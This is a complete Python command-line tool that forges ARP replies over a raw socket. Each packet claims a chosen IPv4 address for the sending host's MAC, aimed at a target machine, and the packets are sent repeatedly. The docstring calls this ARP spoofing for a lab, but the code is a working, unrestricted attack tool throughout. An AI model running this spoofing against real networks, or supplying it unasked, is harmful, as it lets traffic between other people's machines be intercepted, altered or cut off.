#!/usr/bin/env python3
"""Send ARP replies claiming an IPv4 address for this host's MAC (ARP spoofing
in the lab). Raw AF_PACKET socket, no scapy.

usage: send-arp-claims.py IFACE CLAIMED_IP TARGET_MAC TARGET_IP COUNT INTERVAL_S
"""
import socket
import struct
import sys
import time


def mac_bytes(text):
    return bytes(int(part, 16) for part in text.split(":"))


def main():
    iface, claimed_ip, target_mac, target_ip, count, interval = sys.argv[1:7]
    own_mac = open(f"/sys/class/net/{iface}/address").read().strip()
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    ethernet = mac_bytes(target_mac) + mac_bytes(own_mac) + struct.pack("!H", 0x0806)
    # ARP reply: Ethernet/IPv4, sender = claimed IP at our MAC.
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    arp += mac_bytes(own_mac) + socket.inet_aton(claimed_ip)
    arp += mac_bytes(target_mac) + socket.inet_aton(target_ip)
    for _ in range(int(count)):
        sock.send(ethernet + arp)
        time.sleep(float(interval))


if __name__ == "__main__":
    main()
